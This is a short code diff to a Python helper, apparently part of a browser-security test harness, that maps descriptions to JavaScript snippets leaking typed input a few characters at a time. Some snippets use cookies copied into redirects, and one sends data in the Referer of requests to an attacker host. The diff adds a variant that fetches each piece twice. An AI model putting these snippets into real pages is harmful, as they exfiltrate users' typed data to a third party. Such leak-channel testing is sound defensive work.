@@ -66,6 +66,11 @@ def _sends(attacker: str) -> dict[str, str]:
         "a cookie its own site copies into a redirect, three characters at a time": (
             "(v.length % 3 === 0 && (document.cookie = 'd=' + encodeURIComponent(v.slice(-3)) + '; path=/', "
             "fetch('/hop').catch(() => {})))"),
+        # each piece fetched twice: the second request carries the cookie unchanged, and by the time its redirect
+        # comes back the page may have set the next piece (the redirect was judged by the site's latest cookie)
+        "a cookie its own site copies into a redirect, each piece sent twice": (
+            "(v.length % 3 === 0 && (document.cookie = 'd=' + encodeURIComponent(v.slice(-3)) + '; path=/', "
+            "fetch('/hop').then(() => fetch('/hop')).catch(() => {})))"),
         "the Referer of requests to another host, three characters at a time": (
             f"(v.length % 3 === 0 && fetch('{attacker}/pixel.gif', {{referrer: '/x?d=' + v.slice(-3), "
             "referrerPolicy: 'unsafe-url', mode: 'no-cors'}).catch(() => {}))"),
